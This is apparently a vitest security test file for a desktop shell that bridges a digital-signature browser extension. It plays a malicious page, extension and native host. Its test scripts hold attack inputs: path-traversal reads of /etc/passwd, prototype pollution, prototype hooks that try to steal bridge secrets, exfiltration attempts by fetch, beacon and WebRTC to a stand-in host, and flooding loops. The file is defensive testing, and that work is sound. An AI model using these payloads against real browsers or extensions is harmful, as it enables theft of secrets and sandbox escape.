/**
 * A malicious page, a malicious extension and a malicious host against the bridge of signatures, in one visit each: what a
 * vendor's software may do when somebody has taken it over, and what a portal may do with it. No driver.
 */

import process from 'node:process';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { EDS_LIMITS } from '../../main/core/eds/limits.ts';
import {
  AWAY,
  BESIDE,
  EVIL,
  HONEST,
  MALICIOUS_WORDS,
  type MaliciousStation,
  maliciousStation,
  STRANGER,
} from '../support/malicious-signing.ts';
import { HANGS } from '../support/patience.ts';
import { displayForTests } from '../support/running.ts';
import { framesOf } from '../support/signing.ts';
import { runUnobserved } from '../support/unobserved.ts';

describe.skipIf(process.env.SECTOR_EXECUTABLE || process.platform !== 'linux')('signing under attack', () => {
  const display = displayForTests();
  let station: MaliciousStation;
  beforeAll(async () => {
    station = await maliciousStation();
  });
  afterAll(() => station.stop());

  let log = '';
  const run = async (body: string) =>
    (await runUnobserved(display.name, MALICIOUS_WORDS + body, {
      ...{ config: station.config, env: station.env, isHomeSwept: true },
      hear: (output) => {
        log = output;
      },
    })) as Readonly<Record<string, unknown>>;

  describe('a page', () => {
    let seen: Readonly<Record<string, unknown>> = {};
    beforeAll(async () => {
      seen = await run(`
        const page = await begin('sign');
        await ready(page);
        const all = {};
        const post = (id, what, body) => 'await fetch("sector-eds://bridge/' + id + '/" + crypto.randomUUID() + "/' + what + '", { method: "POST", body: ' + body + ' }).then((one) => one.status, () => "out")';
        all.world = await ask(page, 'return [typeof chrome?.runtime, typeof sectorEdsRun, typeof __sectorEds, typeof sectorEds].join()');
        all.timing = await ask(page, 'return performance.getEntries().filter(({ name }) => name.startsWith("sector-eds")).length');
        all.hear = await ask(page, 'return ' + post('${EVIL}', 'hear', '"0".repeat(36)'));
        all.say = await ask(page, 'return ' + post('${EVIL}', 'say', '"0".repeat(36)'));
        all.other = await ask(page, 'return ' + post('a'.repeat(32), 'hear', '"x"'));
        all.read = await ask(page, 'return fetch("sector-eds://${EVIL}/background.js").then((one) => one.status, () => "out")');
        all.blob = await ask(page, 'return ' + post('${EVIL}', 'hear', 'new Blob([new Uint8Array(1e6)])'));
        const before = process.memoryUsage().rss;
        all.many = await ask(page, 'const done = []; for (let turn = 0; turn < 500; turn += 1) done.push(fetch("sector-eds://bridge/${EVIL}/" + crypto.randomUUID() + "/hear", { method: "POST", body: "0".repeat(200000) }).then((one) => one.status, () => "out")); return [...new Set(await Promise.all(done))]');
        all.memory = process.memoryUsage().rss - before;
        all.sender = await inBackground(page, 'return [sender.origin, sender.url, sender.frameId, sender.id]');
        all.tricks = await ask(page, \`
          window.caught = [];
          const look = (value) => { if (typeof value === 'string' && /^[0-9a-f-]{36}(\\\\d+:|$)/.test(value)) window.caught.push(value); return value; };
          for (const name of ['push', 'join', 'splice', 'map']) { const old = Array.prototype[name]; Array.prototype[name] = function (...words) { words.forEach(look); this.forEach?.(look); return look(old.apply(this, words)); }; }
          const oldThen = Promise.prototype.then; Promise.prototype.then = function (...words) { return oldThen.apply(this, words); };
          const oldFetch = fetch; window.fetch = (...words) => { look(words[1]?.body); return oldFetch(...words); };
          const oldText = JSON.stringify; JSON.stringify = (...words) => look(oldText(...words));
          Object.defineProperty(Object.prototype, 'signal', { configurable: true, get() { look(this.body); }, set() {} });
          crypto.randomUUID = () => 'aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa';
          \${ORDER}
          const { value } = await order({ code: 'return 7' });
          return [value, window.caught.length];
        \`);
        await page.reload();
        await until(() => !page.isLoading());
        await ready(page);
        all.claimed = await ask(page, 'dispatchEvent(new Event("sector-eds-${EVIL}")); performance.dispatchEvent(new Event("sector-eds-${EVIL}", { cancelable: true }));' + ORDER + 'return (await order({ code: "return 8" })).value');
        all.forged = await ask(page, ORDER + 'postMessage({ kind: "done", number: 1, value: "forged" }, "*"); return (await order({ code: "return sender.origin", sender: { origin: "https://${AWAY}" }, origin: "https://${AWAY}" })).value');
        all.long = await ask(page, ORDER + 'return (await order({ code: "x".repeat(33 * 1024 * 1024) })).error');
        all.flood = await ask(page, ORDER + 'const all = []; for (let turn = 0; turn < 2000; turn += 1) all.push(order({ code: "return 1" })); const errors = (await Promise.all(all)).filter(({ error }) => error !== undefined); return errors.length');
        await new Promise((done) => setTimeout(done, 1200));
        // Frames of every kind.
        ${framesOf(BESIDE, STRANGER)}
        await ask(page, 'const frame = document.createElement("iframe"); frame.name = "blob"; frame.src = URL.createObjectURL(new Blob(["<p>x</p>"], { type: "text/html" })); document.body.append(frame); const words = document.createElement("iframe"); words.name = "data"; words.src = "data:text/html,<p>x</p>"; document.body.append(words);');
        await new Promise((done) => setTimeout(done, 1500));
        all.frames = {};
        for (const one of page.mainFrame.framesInSubtree) {
          all.frames[one.name || 'page'] = await one.executeJavaScript('[document.documentElement?.dataset.ran ?? "", document.documentElement?.dataset.escaped ?? ""].join()');
        }
        // A frame that goes to a stranger while the extension runs scripts in it.
        await ask(page, 'globalThis.first = document.querySelector("iframe[name=beside]");');
        const id = page.mainFrame.framesInSubtree.find(({ name }) => name === 'beside').frameTreeNodeId;
        const running = inBackground(page, 'globalThis.times = 0; while (!globalThis.isEnough) { await chrome.scripting.executeScript({ target: { tabId: sender.tab.id, frameIds: [' + id + '] }, world: "MAIN", func: () => { document.documentElement.dataset.given = location.host; } }); globalThis.times += 1; await new Promise((done) => setTimeout(done, 5)); } return 1;');
        const timesNow = () => inBackground(page, 'return globalThis.times');
        const given = () => page.mainFrame.framesInSubtree.find(({ name }) => name === 'beside').executeJavaScript('location.host + " " + (document.documentElement?.dataset.given ?? "")');
        await until(async () => (await given()) === '${BESIDE} ${BESIDE}', 'the script in the frame');
        const first = await given();
        await ask(page, 'document.querySelector("iframe[name=beside]").src = "https://${STRANGER}/later"');
        await until(async () => (await given()).startsWith('${STRANGER}'), 'the stranger');
        // It goes on trying with the stranger in the frame.
        const tried = await timesNow();
        await until(async () => (await timesNow()) > tried + 20, 'twenty more times');
        await inBackground(page, 'globalThis.isEnough = true');
        await running;
        all.late = [first, await given()];
        // A page that has left still speaks.
        await ask(page, 'addEventListener("pagehide", () => { for (let turn = 0; turn < 50; turn += 1) { postMessage({ kind: "order", number: turn, words: { code: "return withHost([{ do: \\\\"silent\\\\" }], 60000)" } }, "*"); fetch("sector-eds://bridge/${EVIL}/" + crypto.randomUUID() + "/hear", { method: "POST", keepalive: true, body: "x" }); } });');
        await go(page, 'https://${BESIDE}/next');
        await ready(page);
        all.left = await inBackground(page, 'return (await chrome.tabs.query({})).map(({ url }) => url)');
        all.fine = await isFine();
        await finish();
        say(all);
      `);
    });

    test.each([
      ['sees neither world nor binding nor channel', 'world', 'undefined,undefined,undefined,undefined'],
      ['sees no address of the bridge among its timings', 'timing', 0],
      ['asks for a place without the secret', 'hear', 403],
      ['speaks as a document that it is not', 'say', 'out'],
      ['asks for an extension that nobody has', 'other', 'out'],
      ['reads the background of the extension', 'read', 'out'],
      ['sends a blob that would have to be read', 'blob', 'out'],
      ['asks five hundred times without the secret', 'many', [403]],
      ['lies about who it is', 'sender', ['https://lk.example.ru', 'https://lk.example.ru/', 0, EVIL]],
      ['changes the prototypes of the language', 'tricks', [7, 0]],
      ['says that it is the world of the extension', 'claimed', 8],
      ['forges an answer and an origin', 'forged', 'https://lk.example.ru'],
      ['sends one message that is too long', 'long', 'Message length exceeded maximum allowed length.'],
      ['speaks on after it has left', 'left', [`https://${BESIDE}/next`]],
      ['takes nothing of the shell', 'fine', true],
    ])('B109 a page %s', (_what, key, wanted) => {
      expect(seen[key]).toEqual(wanted);
    });

    test('B109 a page that floods the bridge is told so, and fills no memory', () => {
      expect(seen.flood).toBeGreaterThan(1000);
      expect(seen.memory).toBeLessThan(300e6);
    });

    test.each([
      ['page', 'lk.example.ru,'],
      ['beside', `${BESIDE},`],
      ['stranger', ','],
      ['blank', ','],
      ['words', ','],
      ['boxed', ','],
      ['blob', ','],
      ['data', ','],
    ])('B110 a frame has the extension only where its own address is listed: %s', (name, wanted) => {
      expect((seen.frames as Readonly<Record<string, string>>)[name]).toBe(wanted);
    });

    test('B110 a frame that goes to another site gets no script that was meant for the one before', () => {
      expect(seen.late).toEqual([`${BESIDE} ${BESIDE}`, `${STRANGER} `]);
    });
  });

  describe('an extension', () => {
    let seen: Readonly<Record<string, unknown>> = {};
    beforeAll(async () => {
      seen = await run(`
        const page = await begin('sign');
        await ready(page);
        const all = {};
        const order = (code) => inBackground(page, code);
        all.heads = await order('for (const head of [["native", "n", { toString: 1, valueOf: 1 }], ["native", { toString: 1 }, "x"], ["missing", { toString: 1 }], ["tell", "t", { valueOf: 1, toString: 1 }, 0], ["storage", "s", { toString: 1 }, { toString: 1 }], ["close", { toString: 1 }], ["register", "r"], ["run", "u", {}, {}], ["__proto__", "x"], ["constructor"], []]) sectorEds.say(JSON.stringify(head), "{oops"); sectorEds.say("{oops", "x"); sectorEds.say("[]".repeat(100000), ""); sectorEds.say({ toString: null }, 1);');
        all.afterHeads = await order('return "here"');
        all.spoiled = String({}.spoiled);
        all.prototype = await order('await chrome.storage.local.set(JSON.parse("{\\\\"__proto__\\\\":{\\\\"spoiled\\\\":1}}")); await chrome.storage.local.set({ constructor: 1 }); return String({}.spoiled)') + String({}.spoiled);
        all.storage = await order('return chrome.storage.local.set({ x: "x".repeat(11 * 1024 * 1024) }).then(() => "kept", (cause) => cause.message)');
        all.missing = await order('for (let turn = 0; turn < 1000; turn += 1) sectorEds.say(JSON.stringify(["missing", "idle.x" + turn]), ""); sectorEds.say(JSON.stringify(["missing", "Иванов Иван МАРКЕР"]), ""); return 1');
        all.hosts = await order('const why = []; for (const name of ["ru.cryptopro.nmcades", "../../../bin/sh", "/bin/sh", "__proto__", "constructor", ""]) why.push(await chrome.runtime.sendNativeMessage(name, {}).then(() => "started", (cause) => cause.message)); return [...new Set(why)]');
        all.climbs = await order('const all = []; for (const name of ["../../extensions.json", "/etc/passwd", "link.txt", "linked/passwd", "..\\\\\\\\x", "%2e%2e/x"]) { const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: sender.tab.id }, files: [name] }); all.push(result); const status = await fetch("/" + name).then((one) => one.status, () => 0); if (status !== 0 && status !== 404) all.push(name + status); } return all.filter((one) => one !== null)');
        all.neighbour = await order('return fetch("chrome-extension://${HONEST}/open.js").then((one) => one.status, () => "out")');
        all.network = await order('const out = (promise) => Promise.race([promise.then(() => "in", () => "out"), new Promise((done) => setTimeout(() => done("out"), 4000))]); const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:${AWAY}:3478" }] }); const found = []; peer.onicecandidate = ({ candidate }) => { if (candidate && / srflx | relay /.test(candidate.candidate)) found.push(1); }; peer.createDataChannel("x"); await peer.setLocalDescription(); const worker = new Worker(URL.createObjectURL(new Blob(["fetch(\\\\"https://${AWAY}/w\\\\").then(() => postMessage(\\\\"in\\\\"), () => postMessage(\\\\"out\\\\"))"]))); return [await out(fetch("https://${AWAY}/f", { mode: "no-cors" })), await out(fetch("file:///etc/passwd")), await out(new Promise((done, no) => { worker.onmessage = ({ data }) => data === "in" ? done() : no(); worker.onerror = no; })), navigator.sendBeacon("https://${AWAY}/b", "x") && "asked", found.length]');
        all.windows = await order('return [window.open("https://${AWAY}/") === null, window.open("about:blank") === null, window.open("sector-eds://${EVIL}/open.js") === null]');
        all.permissions = await order('const names = ["geolocation", "notifications", "camera", "microphone", "clipboard-read", "midi"]; const states = await Promise.all(names.map((name) => navigator.permissions.query({ name }).then(({ state }) => state, () => "denied"))); const read = await navigator.clipboard?.readText().then(() => "in", () => "out"); return [states.includes("granted"), read ?? "out"]');
        const before = webContents.getAllWebContents().length;
        all.goes = await order('const link = document.createElement("a"); link.href = "https://${AWAY}/go"; document.body.append(link); link.click(); location.href = "https://${AWAY}/href"; location.href = "file:///etc/passwd"; location.href = "data:text/html,x"; const form = document.createElement("form"); form.action = "https://${AWAY}/form"; document.body.append(form); form.submit(); const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0; url=https://${AWAY}/meta"; document.head.append(meta); const frame = document.createElement("iframe"); frame.src = "https://${AWAY}/frame"; document.body.append(frame); await new Promise((done) => setTimeout(done, 500)); return location.href.slice(0, 13)');
        all.contents = webContents.getAllWebContents().length - before;
        // Its world beside that of another extension.
        const steal = (name) => '[{ result }] = await chrome.scripting.executeScript({ target: { tabId: sender.tab.id }, func: ' + name + ' })';
        all.stolen = await order('const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: sender.tab.id }, func: async () => { const caught = []; for (const name of ["signal", "headers", "mode", "cache", "body"]) Object.defineProperty(Object.prototype, name, { configurable: true, get() { if (typeof this?.body === "string" || Object.hasOwn(this, "method")) caught.push(1); return undefined; }, set() {} }); chrome.runtime.sendMessage({ code: "return 1" }); await new Promise((done) => setTimeout(done, 500)); for (const name of ["signal", "headers", "mode", "cache", "body"]) delete Object.prototype[name]; return caught.length; } }); return result');
        all.foreign = await order('const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: sender.tab.id }, func: () => fetch("sector-eds://bridge/${HONEST}/" + crypto.randomUUID() + "/hear", { method: "POST", body: "0".repeat(36) }).then((one) => one.status, () => "out") }); return result');
        // Scripts for every page there is.
        await order('await chrome.scripting.registerContentScripts([{ id: "all", js: ["open.js"], matches: ["<all_urls>", "*://*/*", "file:///*", "((((", "https://*/*$|.*"], allFrames: true, world: "MAIN", runAt: "document_start" }]); await chrome.scripting.registerContentScripts([null, 7, { id: 1 }, { id: "half", js: ["half.js"], matches: ["<all_urls>"], allFrames: true, world: "MAIN", runAt: "document_start" }]).catch(() => undefined)');
        await page.reload();
        await until(() => !page.isLoading());
        await ready(page);
        await ask(page, 'const frame = document.createElement("iframe"); frame.name = "stranger"; frame.src = "https://${STRANGER}/x"; document.body.append(frame);');
        const stranger = await until(() => page.mainFrame.framesInSubtree.find(({ name, url }) => name === 'stranger' && url.startsWith('https://${STRANGER}')));
        await until(async () => (await stranger.executeJavaScript('document.readyState')) === 'complete');
        all.registered = await stranger.executeJavaScript('[document.documentElement.dataset.ran ?? "", document.documentElement.dataset.escaped ?? "", typeof isOpen].join()');
        all.honest = await ask(page, HONEST + 'return (await honest({ what: "heard" })).value > 0');
        // It works without end, and then speaks without end.
        const since = performance.now();
        void inBackground(page, 'const end = Date.now() + 3000; while (Date.now() < end); return 1').catch(() => undefined);
        all.busy = await isFine();
        await ready(page);
        void inBackground(page, 'for (let turn = 0; turn < 300000; turn += 1) sectorEds.say("[\\\\"tabs\\\\",\\\\"q\\\\"]", "");').catch(() => undefined);
        await new Promise((done) => setTimeout(done, 1500));
        all.flooded = await isFine();
        await page.reload();
        await until(() => !page.isLoading());
        all.fine = await isFine();
        await finish();
        await begin('sign');
        all.again = await isFine();
        await finish();
        say(all);
      `);
    });

    test.each([
      ['whose heads have a toString of their own ends nothing', 'afterHeads', 'here'],
      ['that stores under the names of prototypes', 'prototype', 'undefinedundefined'],
      ['that fills its storage', 'storage', 'QUOTA_BYTES quota exceeded'],
      ['that starts hosts which are not its own', 'hosts', ['Specified native messaging host not found.']],
      ['that climbs out of its folder', 'climbs', []],
      ['that reads its neighbour', 'neighbour', 'out'],
      ['that opens windows', 'windows', [true, true, true]],
      ['that asks for permissions', 'permissions', [false, 'out']],
      ['that navigates itself', 'goes', 'sector-eds://'],
      ['that has more than its one page', 'contents', 0],
      ['that speaks for its neighbour', 'foreign', 403],
      ['that takes the secret out of a request', 'stolen', 0],
      ['that works without end', 'busy', true],
      ['that speaks without end', 'flooded', true],
      ['that was ended for it leaves the visit whole', 'fine', true],
      ['that was ended for it leaves the next visit whole', 'again', true],
    ])('B111 an extension %s', (_what, key, wanted) => {
      expect(seen[key]).toEqual(wanted);
    });

    test('B111 an extension reaches nobody by fetch, worker, beacon or WebRTC', () => {
      const [fetched, file, worker, , candidates] = seen.network as readonly unknown[];
      expect([fetched, file, worker, candidates]).toEqual(['out', 'out', 'out', 0]);
      expect(station.reached.has(AWAY)).toBe(false);
    });

    test('B112 an extension registers scripts for all pages: those of other sites have none of them', () => {
      expect(seen.registered).toBe(',,undefined');
    });

    test('B112 the other extension on the page goes on', () => {
      expect(seen.honest).toBe(true);
    });

    test('B111 an extension writes its own words, or without end, into the log: neither is there', () => {
      expect(log).not.toContain('МАРКЕР');
      expect(log.split('eds.missing').length).toBeLessThan(250);
    });
  });

  describe('a host', () => {
    let seen: Readonly<Record<string, unknown>> = {};
    beforeAll(async () => {
      seen = await run(`
        const page = await begin('sign');
        await ready(page);
        const all = {};
        const host = async (way, patience = 4000) => inBackground(page, 'return withHost([{ do: ' + JSON.stringify(way) + ' }], ' + patience + ')');
        const gone = async () => { const since = performance.now(); await until(() => alive().length === 0, 'no host'); return performance.now() - since; };
        for (const way of ['large', 'huge', 'truncated', 'garbage', 'words', 'prototype', 'exit', 'mute', 'errors', 'files', 'environment', 'away', 'bare', 'stay']) {
          const { end, heard } = await host(way);
          all[way] = { end, heard, gone: await gone() };
        }
        all.spoiled = await inBackground(page, 'return String({}.spoiled)') + String({}.spoiled);
        all.written = (await host('writes')).heard[0].written;
        all.silent = { end: (await host('silent', 1000)).end, gone: await gone() };
        for (const way of ['empty', 'flood', 'many']) {
          const before = process.memoryUsage().rss;
          const going = host(way, 20000);
          const waits = [];
          let isOver = false;
          const done = going.then((value) => { isOver = true; return value; });
          while (!isOver) {
            const since = performance.now();
            await inShell('1');
            waits.push(performance.now() - since);
            await pause();
          }
          const { end } = await done;
          all[way] = { end, gone: await gone(), longest: Math.max(...waits), memory: process.memoryUsage().rss - before };
        }
        const before = process.memoryUsage().rss;
        const deaf = await inBackground(page, 'return withHost([{ do: "deaf" }, ...Array.from({ length: 20 }, () => "x".repeat(16 * 1024 * 1024))], 15000)');
        all.deaf = { end: deaf.end, gone: await gone(), memory: process.memoryUsage().rss - before };
        all.restarts = await inBackground(page, 'const end = Date.now() + 3000; let started = 0; while (Date.now() < end) { const why = await chrome.runtime.sendNativeMessage("evil.host", { do: "exit" }).catch(({ message }) => message); if (why === "Native host has exited.") started += 1; else await new Promise((done) => setTimeout(done, 5)); } return started');
        await new Promise((done) => setTimeout(done, 5000));
        all.together = await inBackground(page, 'const ports = []; for (let turn = 0; turn < 20; turn += 1) { ports.push(chrome.runtime.connectNative("evil.host")); await new Promise((done) => setTimeout(done, 100)); } globalThis.kept = ports; return ports.length');
        all.most = alive().length;
        // All of them are bad, and the visit ends.
        await inBackground(page, 'for (const one of globalThis.kept) try { one.postMessage({ do: "stay" }); one.postMessage({ do: "away" }); one.postMessage({ do: "bare" }); } catch {}');
        await until(() => alive().length >= 8, 'children');
        all.fine = await isFine();
        await call('visit.finish');
        await until(async () => (await state()).phase === 'done', 'closed');
        all.left = alive().length;
        all.kept = all.written.filter(existsSync);
        await call('visit.leave');
        say(all);
      `);
    });
    const of = (key: string) =>
      seen[key] as {
        readonly end: string;
        readonly heard: readonly unknown[];
        readonly gone: number;
        readonly longest: number;
        readonly memory: number;
      };

    test.each(['large', 'huge', 'truncated', 'garbage', 'words'])(
      'B113 a host whose frames are wrong is ended, and its extension is told: %s',
      (way) => {
        expect(of(way).end).toMatch(/has exited|Error when communicating/);
        expect(of(way).gone).toBeLessThan(HANGS);
      },
    );

    test('B113 a host that answers with prototypes changes none', () => {
      expect(of('prototype').end).toBe('answered');
      expect(seen.spoiled).toBe('undefinedundefined');
    });

    test.each(['empty', 'flood', 'many', 'deaf'])(
      'B114 a host that floods, or reads nothing, is ended before it fills the memory: %s',
      (way) => {
        expect(of(way).end).toMatch(/has exited|Error when communicating|closed/);
        expect(of(way).gone).toBeLessThan(HANGS);
        expect(of(way).memory).toBeLessThan(600e6);
      },
    );

    test('B114 a host that ends at once, again and again, is started once a second', () => {
      expect(seen.restarts).toBeLessThanOrEqual(EDS_LIMITS.startsAtOnce + 4);
      expect(seen.most).toBeLessThanOrEqual(4);
      expect(seen.most).toBeGreaterThan(0);
    });

    test.each(['exit', 'mute', 'silent', 'stay', 'away', 'bare'])(
      'B115 a host and everything that it has started end with its port: %s',
      (way) => {
        expect(of(way).gone).toBeLessThan(HANGS);
      },
    );

    test('B115 a host has no file of the shell, no environment of it, and no line in the log', () => {
      const [{ files }] = of('files').heard as readonly [{ readonly files: readonly string[] }];
      expect(files.filter((one) => !one.includes('/hosts/'))).toEqual([]);
      const [{ names }] = of('environment').heard as readonly [{ readonly names: readonly string[] }];
      expect(names.filter((one) => one.startsWith('SECTOR_TEST') || one.startsWith('DBUS'))).toEqual([]);
      expect(log).not.toContain('MARKER-OF-A-HOST');
    });

    test('B115 a host that leaves papers in the home of the account: none is there after the closing', () => {
      expect(seen.written).toHaveLength(5);
      expect(seen.kept).toEqual([]);
    });

    test('B115 four hosts that ignore everything, with children that left, are gone with the visit', () => {
      expect(seen.fine).toBe(true);
      expect(seen.left).toBe(0);
    });
  });
});
